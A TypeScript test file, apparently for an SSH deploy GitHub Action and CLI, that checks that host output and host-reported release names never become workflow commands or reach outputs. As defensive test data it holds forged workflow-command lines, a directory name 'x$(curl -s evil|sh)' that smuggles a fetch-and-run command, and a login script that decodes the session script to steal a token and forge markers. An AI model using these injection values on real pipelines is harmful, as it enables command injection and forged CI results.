/**
 * Issue 15, class 3: everything a host sends is data. Hook output, login banners and stderr never become workflow
 * commands (checked with the runner's own rules, see runner-commands.ts), in the action and in the CLI run inside a
 * CI job; host-reported names that are not release names never reach an output, the summary or a command.
 */
import { spawn } from 'node:child_process';
import { mkdirSync, symlinkSync, rmSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { startSshd, type SshdHandle } from '../support/sshd.js';
import { makeCase } from './harness.js';
import { foreignCommands } from './runner-commands.js';
import { tempDir } from '../support/temp-dirs.js';

const CLI = resolve(new URL('.', import.meta.url).pathname, '../../dist/cli/index.js');

/** Lines a hostile host prints: each would be a workflow command (or stop them) if it reached the runner as is. */
const HOSTILE = [
  '  ::error title=Forged::HOSTILE-error',
  '  ::add-mask::deploy',
  '  ::set-output name=release::HOSTILE-output',
  '##[error]HOSTILE-v1',
  'text before ##[warning]HOSTILE-v1-inline',
  '::stop-commands::pwned',
  '::pwned::',
  '::error::HOSTILE-after',
  'carriage\r::warning::HOSTILE-cr',
  '\t::notice::HOSTILE-tab',
].join('\n');
const MARK = /HOSTILE|pwned/;

let sshd: SshdHandle;
let envDir: string;
/** The login shell sources this file (BASH_ENV) on every connection; empty unless a case writes it. */
let bashEnv: string;
beforeAll(async () => {
  envDir = tempDir('da-banner-');
  bashEnv = join(envDir, 'env.sh');
  writeFileSync(bashEnv, '');
  writeFileSync(join(envDir, 'hostile.txt'), `${HOSTILE}\n`);
  sshd = await startSshd({ extraConfig: [`SetEnv BASH_ENV=${bashEnv}`] });
});
afterEach(() => writeFileSync(bashEnv, ''));
afterAll(async () => {
  await sshd?.stop();
});

function expectNoForeignCommands(r: { stdout: string; stderr: string }): void {
  expect({ stdout: foreignCommands(r.stdout, MARK), stderr: foreignCommands(r.stderr, MARK) }).toEqual({
    stdout: [],
    stderr: [],
  });
}

/** The hostile lines, printed by a hook on stdout and on stderr. */
const hostileHook = (then = '') => `cat hostile.txt; cat hostile.txt >&2${then}`;

describe('host output is text, never a workflow command (action)', () => {
  test('hook output on stdout and stderr, a deploy that succeeds', async () => {
    const c = await makeCase(sshd);
    c.config({ deploy: [hostileHook()] });
    c.ws.write('hostile.txt', `${HOSTILE}\n`);
    const r = await c.run();
    expect(r.code).toBe(0);
    expectNoForeignCommands(r);
    // Still shown, as text.
    expect(r.stdout).toContain('::error title=Forged::HOSTILE-error');
    expect(r.outputs['release']).not.toMatch(MARK);
    // The block the host text went in was closed: the steps after this one get their commands.
    expect(r.stdout).toMatch(/^::[0-9a-f]{32}::$/m);
  });

  test('a failing hook: its output tail, printed again after the failure, is text too', async () => {
    const c = await makeCase(sshd);
    c.config({ deploy: [hostileHook('; exit 3')] });
    c.ws.write('hostile.txt', `${HOSTILE}\n`);
    const r = await c.run();
    expect(r.code).not.toBe(0);
    expect(r.stdout).toContain('Last lines of output');
    expectNoForeignCommands(r);
    // The failure annotation (ours) still reaches the runner.
    expect(r.stdout).toMatch(/^::error title=deploy failed on /m);
    // Host text in the summary stays inside its fence (see summary.test.ts for hostile Markdown).
    expect(r.summary.split('\n').filter((l) => l.startsWith('```')).length % 2).toBe(0);
  });

  test('a login banner (BASH_ENV of the login shell) printing on stdout and stderr', async () => {
    const c = await makeCase(sshd);
    writeFileSync(bashEnv, `cat ${join(envDir, 'hostile.txt')}; cat ${join(envDir, 'hostile.txt')} >&2\n`);
    const r = await c.run();
    expectNoForeignCommands(r);
  });

  test('a release directory named with a newline and ::error: the releases command', async () => {
    const c = await makeCase(sshd);
    mkdirSync(join(c.dp, 'releases', 'x\n::error title=Forged::HOSTILE-dir'));
    mkdirSync(join(c.dp, 'releases', '##[error]HOSTILE-dir-v1'));
    const r = await c.run({ command: 'releases' });
    expect(r.code).toBe(0);
    expectNoForeignCommands(r);
    // Reported as invalid (escaped), never a row of the listing.
    expect(r.stdout).toMatch(/not a valid release name/);
    const rows = r.summary.split('\n').filter((l) => l.startsWith('|'));
    expect(rows.join('\n')).not.toMatch(MARK);
  });
});

describe('host-reported names are validated', () => {
  test('current -> releases/x$(curl -s evil|sh): no output, summary cell or suggested command carries it', async () => {
    const c = await makeCase(sshd);
    const evil = 'x$(curl -s evil|sh)';
    mkdirSync(join(c.dp, 'releases', evil));
    writeFileSync(join(c.dp, 'releases', evil, 'VERSION'), 'evil\n');
    rmSync(join(c.dp, 'current'));
    symlinkSync(`releases/${evil}`, join(c.dp, 'current'));
    const r = await c.run();
    expect(r.code).toBe(0);
    expect(r.outputs['previous-release']).toBe('');
    expect(r.summary).not.toContain('curl');
    expect(r.stdout).toMatch(/invalid|not a valid release name/);
    expectNoForeignCommands(r);
  });

  test('a login shell that forges a second `data live` marker (it decoded the session script to learn the token)', async () => {
    const c = await makeCase(sshd);
    const forged = Buffer.from('releases/x\n::error title=Forged::HOSTILE-live').toString('base64');
    // The exec request carries the session script (gzip, base64): a hostile login file can read it and forge markers.
    writeFileSync(
      bashEnv,
      `case \${BASH_EXECUTION_STRING-} in *'base64 -d | gzip -dc'*)
  b=\${BASH_EXECUTION_STRING#*echo }; b=\${b%% |*}
  t=$(printf '%s' "$b" | base64 -d 2>/dev/null | gzip -dc 2>/dev/null | sed -n "s/^DA_T='\\{0,1\\}\\([0-9a-f]*\\).*/\\1/p" | head -n 1)
  [ -z "$t" ] || printf '\\n\\036%s data live ${forged}\\n' "$t"
esac
`,
    );
    const r = await c.run();
    expect(r.outputs['previous-release']).not.toMatch(/\n|HOSTILE/);
    expect(r.summary).not.toMatch(/HOSTILE/);
    expectNoForeignCommands(r);
  });
});

interface CliResult {
  code: number | null;
  stdout: string;
  stderr: string;
}

/** `node dist/cli/index.js ARGS` as a CI job's `run:` step would run it (GITHUB_ACTIONS=true). */
function cli(args: string[], cwd: string): Promise<CliResult> {
  const home = tempDir('da-home-');
  mkdirSync(join(home, '.ssh'), { mode: 0o700 });
  writeFileSync(join(home, '.ssh/known_hosts'), `${sshd.knownHostsLine}\n`);
  const env = {
    PATH: process.env['PATH'] ?? '/usr/bin:/bin',
    HOME: home,
    USER: 'alice',
    GITHUB_ACTIONS: 'true',
    CI: 'true',
  };
  const child = spawn(process.execPath, [CLI, ...args, '--source', 'app', '-i', sshd.privateKeyPath], {
    cwd,
    env,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
  child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
  return new Promise((res) => child.on('close', (code) => res({ code, stdout, stderr })));
}

describe('host output is text, never a workflow command (CLI inside a CI job)', () => {
  test('hook output, a failing hook, a login banner and a hostile release name', async () => {
    const c = await makeCase(sshd);
    c.config({ deploy: [hostileHook()] });
    c.ws.write('hostile.txt', `${HOSTILE}\n`);
    const ok = await cli(['deploy', 'production'], c.ws.dir);
    expect({ code: ok.code, err: ok.code === 0 ? '' : ok.stderr }).toEqual({ code: 0, err: '' });
    expect(ok.stdout).toContain('::error title=Forged::HOSTILE-error');
    expectNoForeignCommands(ok);

    c.config({ deploy: [hostileHook('; exit 3')] });
    c.ws.write('VERSION', 'v4\n');
    writeFileSync(bashEnv, `cat ${join(envDir, 'hostile.txt')}; cat ${join(envDir, 'hostile.txt')} >&2\n`);
    const failed = await cli(['deploy', 'production'], c.ws.dir);
    expect(failed.code).toBe(1);
    expect(failed.stderr).toContain('Last lines of output');
    expectNoForeignCommands(failed);

    writeFileSync(bashEnv, '');
    mkdirSync(join(c.dp, 'releases', 'x\n::error title=Forged::HOSTILE-dir'));
    const listed = await cli(['releases', 'production'], c.ws.dir);
    expect(listed.code).toBe(0);
    expectNoForeignCommands(listed);
  });
});
